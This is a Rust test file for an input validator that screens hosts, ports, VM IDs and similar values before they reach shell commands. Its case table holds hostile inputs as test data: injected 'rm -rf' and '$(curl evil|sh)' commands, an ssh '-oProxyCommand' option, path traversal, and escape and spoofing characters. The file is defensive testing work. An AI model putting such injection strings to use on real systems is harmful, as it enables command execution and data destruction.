use proptest::prelude::*;

use super::*;

/// A value, its kind, and the rule that stops it; `None` when it may pass.
const CASES: [(&str, Kind, Option<&str>); 66] = [
    // R1
    ("", Kind::Any, Some("R1")),
    ("x\u{0}", Kind::Any, Some("R1")),
    ("100\nrm -rf /", Kind::Vmid, Some("R1")),
    ("100\n", Kind::Vmid, Some("R1")),
    ("a\u{7f}", Kind::Any, Some("R1")),
    ("a\u{9b}31m", Kind::Any, Some("R1")),
    ("\u{1b}[2J", Kind::Any, Some("R1")),
    ("\u{1b}]52;c;x\u{7}", Kind::Any, Some("R1")),
    ("abc\u{202e}gpj.exe", Kind::Any, Some("R1")),
    ("a\u{200b}b", Kind::Any, Some("R1")),
    ("a\u{a0}b", Kind::Any, Some("R1")),
    ("a\u{feff}", Kind::Any, Some("R1")),
    ("e\u{301}", Kind::Any, Some("R1")),
    ("é", Kind::Any, None),
    ("\u{212b}", Kind::Any, Some("R1")),
    ("any text, with \"quotes\" and $(this)", Kind::Any, None),
    // R2
    ("10.0.0.25", Kind::Host, None),
    ("web-1.lan", Kind::Host, None),
    ("fd00::25", Kind::Host, None),
    ("::1", Kind::Host, None),
    ("[fd00::25]", Kind::Host, Some("R2")),
    ("fe80::1%eth0", Kind::Host, Some("R2")),
    ("10.0.0", Kind::Host, Some("R2")),
    ("10.0.0.256", Kind::Host, Some("R2")),
    ("10.0.0.21; rm -rf ~", Kind::Host, Some("R2")),
    ("a;touch x", Kind::Host, Some("R2")),
    ("a..b", Kind::Host, Some("R2")),
    ("a_b", Kind::Host, Some("R2")),
    ("web-", Kind::Host, Some("R2")),
    ("\u{440}rometheus", Kind::Host, Some("R2")),
    ("$(curl evil|sh)", Kind::Host, Some("R2")),
    ("`id`", Kind::Safeword, Some("R2")),
    ("9100", Kind::Port, None),
    ("65535", Kind::Port, None),
    ("65536", Kind::Port, Some("R2")),
    ("0", Kind::Port, Some("R2")),
    ("9100; rm -rf ~", Kind::Port, Some("R2")),
    ("100", Kind::Vmid, None),
    ("99", Kind::Vmid, Some("R2")),
    ("0100", Kind::Vmid, Some("R2")),
    ("</VMID>", Kind::Vmid, Some("R2")),
    ("2", Kind::Pid, None),
    ("1", Kind::Pid, Some("R2")),
    ("4242", Kind::Pid, None),
    ("node_exporter.service", Kind::Unit, None),
    ("getty@tty1", Kind::Unit, None),
    ("a b", Kind::Unit, Some("R2")),
    ("2025-11-06", Kind::Date, None),
    ("2025-13-06", Kind::Date, Some("R2")),
    ("2025_11_06-02_00_03", Kind::Timestamp, None),
    ("2025-11-06T02:00:03Z", Kind::Timestamp, Some("R2")),
    ("2025-11-06T02:00:03Z", Kind::Pbstime, None),
    ("01HG3Q6J2V9S8QK5T0X4M7N1ZR", Kind::Ulid, None),
    ("..", Kind::Ulid, Some("R2")),
    ("*", Kind::Ulid, Some("R2")),
    ("1:2.48.0+ds-1~bpo12", Kind::Version, None),
    ("pbs:backup/vm/102/2025-11-06T02:00:03Z", Kind::Volid, None),
    ("pbs:backup/../102/2025-11-06T02:00:03Z", Kind::Volid, Some("R2")),
    ("storage/a.b:c@d%e+f=g,h-i", Kind::Safeword, None),
    ("a/../../etc", Kind::Safeword, Some("R2")),
    ("..", Kind::Safeword, Some("R2")),
    ("~", Kind::Safeword, Some("R2")),
    // R3
    ("-oProxyCommand=touch x", Kind::Host, Some("R3")),
    ("--mode=stop", Kind::Vmid, Some("R3")),
    ("-rf", Kind::Unit, Some("R3")),
    ("-x", Kind::Any, Some("R3")),
];

#[test]
fn each_rule_stops_what_it_is_for() {
    for (value, kind, rule) in CASES {
        let told = admit(value, kind, None);
        match rule {
            None => assert_eq!(told, Ok(()), "{value:?}"),
            Some(rule) => {
                let told = told.expect_err(value);
                assert!(told.starts_with(rule), "{value:?}: {told}");
                assert!(!told.chars().any(is_hidden), "nothing hides in {told:?}");
            }
        }
    }
    let long = "a".repeat(LONGEST + 1);
    assert!(admit(&long, Kind::Any, None).is_err_and(|told| told.starts_with("R1")));
    assert!(admit(&"a".repeat(LONGEST), Kind::Any, None).is_ok());
}

#[test]
fn a_declared_pattern_is_for_the_whole_value() {
    let pattern = whole("web|db").expect("a pattern");
    assert!(admit("web", Kind::Safeword, Some(&pattern)).is_ok());
    for wrong in ["web2", "xdb", "web,db"] {
        let told = admit(wrong, Kind::Safeword, Some(&pattern)).expect_err(wrong);
        assert!(told.ends_with("does not match web|db"), "{told}");
    }
}

#[test]
fn names_tell_kinds() {
    for (name, kind) in [
        ("TARGET", Kind::Host),
        ("TARGET_HOST", Kind::Host),
        ("TARGET_IP", Kind::Host),
        ("RESTORED_VM_IP", Kind::Host),
        ("EXPORTER_PORT", Kind::Port),
        ("VMID", Kind::Vmid),
        ("NEW_VMID", Kind::Vmid),
        ("PROCESS_ID", Kind::Pid),
        ("SERVICE_NAME", Kind::Unit),
        ("DATE", Kind::Date),
        ("TIMESTAMP", Kind::Timestamp),
        ("CORRUPTED_BLOCK_ID", Kind::Ulid),
        ("OLD_VERSION", Kind::Version),
        ("VOLID", Kind::Volid),
        ("PBSTIME", Kind::Pbstime),
        ("GHOST", Kind::Safeword),
        ("STORAGE", Kind::Safeword),
    ] {
        assert_eq!(Kind::of(name), kind, "{name}");
    }
}

proptest! {
    #[test]
    fn what_a_kind_admits_no_shell_minds(value in "\\PC{0,20}|[0-9A-Za-z.:/_-]{0,20}") {
        use strum::VariantNames;
        for name in Kind::VARIANTS {
            let kind: Kind = name.parse().expect("a kind");
            if kind != Kind::Any && kind != Kind::Version && admit(&value, kind, None).is_ok() {
                prop_assert!(is_plain(&value), "{kind:?}: {value:?}");
            }
        }
    }
}
